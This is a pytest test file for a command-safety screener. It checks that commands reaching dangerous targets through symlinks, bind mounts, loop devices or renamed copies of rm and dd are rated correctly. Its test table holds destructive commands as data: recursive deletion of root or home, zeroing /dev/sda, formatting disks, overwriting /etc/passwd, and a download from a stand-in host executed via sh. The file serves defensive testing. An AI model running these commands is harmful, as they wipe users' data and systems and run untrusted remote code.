"""Names that a text makes for something else: links, mounts, copies of programs."""

from __future__ import annotations

import pytest

from cmdgen.core.records import Command, Level
from cmdgen.safety.engine import screen

CRITICAL, HIGH, MODERATE, SAFE = Level.CRITICAL, Level.HIGH, Level.MODERATE, Level.SAFE


def level(text: str, dialect: str) -> Level:
    return screen(Command(text=text, dialect=dialect)).level


@pytest.mark.parametrize(
    ("dialect", "text", "expected"),
    [
        ("bash", "ln -s / r; rm -rf r/", CRITICAL),
        ("bash", "ln -s ~ h; rm -rf h/*", CRITICAL),
        ("bash", "ln -s ~ h; rm h", MODERATE),
        ("bash", "ln -s /bin/rm x; ./x -rf /", CRITICAL),
        ("bash", "cp /bin/rm x; ./x -rf ~", CRITICAL),
        ("bash", "cp $(which rm) /tmp/x; /tmp/x -rf ~", CRITICAL),
        ("bash", "install -m755 /bin/rm ./x && ./x -rf /", CRITICAL),
        ("bash", "echo 'rm -rf ~' > y; ln -s y x; sh x", CRITICAL),
        ("bash", "curl https://x.example/a > a; ln -s a b; sh b", HIGH),
        ("bash", "ln -sf /dev/sda x; dd if=/dev/zero of=x", CRITICAL),
        ("bash", "ln -sf /etc/passwd x; echo x > x", CRITICAL),
        ("bash", "ln -s / r; find r/ -delete", CRITICAL),
        ("bash", "ln -s /etc e; rm -rf e/passwd", CRITICAL),
        ("bash", "ln -s /etc/hosts h; cat h", SAFE),
        ("bash", "ln -s ../shared/config config; ls config", SAFE),
        ("bash", "mount --bind / x; rm -rf x", CRITICAL),
        ("bash", "mount -o bind /home m && rm -rf m/*", CRITICAL),
        ("cmd", "mklink /d x C:\\ & del /s /q x\\*", CRITICAL),
        (
            "powershell",
            "New-Item -ItemType SymbolicLink -Path x -Target C:\\; Remove-Item -Recurse -Force x\\*",
            CRITICAL,
        ),
        ("bash", "losetup /dev/loop0 /dev/sda; mkfs.ext4 /dev/loop0", CRITICAL),
        ("bash", "losetup /dev/loop0 disk.img; mkfs.ext4 /dev/loop0", MODERATE),
        ("bash", "cp /usr/bin/dd d && mv d e && ./e if=/dev/zero of=/dev/sda", CRITICAL),
        ("bash", "cp /bin/ls myls && ./myls", SAFE),
        ("bash", "ln -sf $(which python3) python && ./python --version", SAFE),
        ("bash", "echo 'ls' > y; ln -s y x; sh x", SAFE),
        ("bash", "ln -s ~/data data; rm data/x.csv", MODERATE),
    ],
)
def test_what_lies_behind_a_name_is_what_is_judged(dialect: str, text: str, expected: Level) -> None:
    assert level(text, dialect) is expected
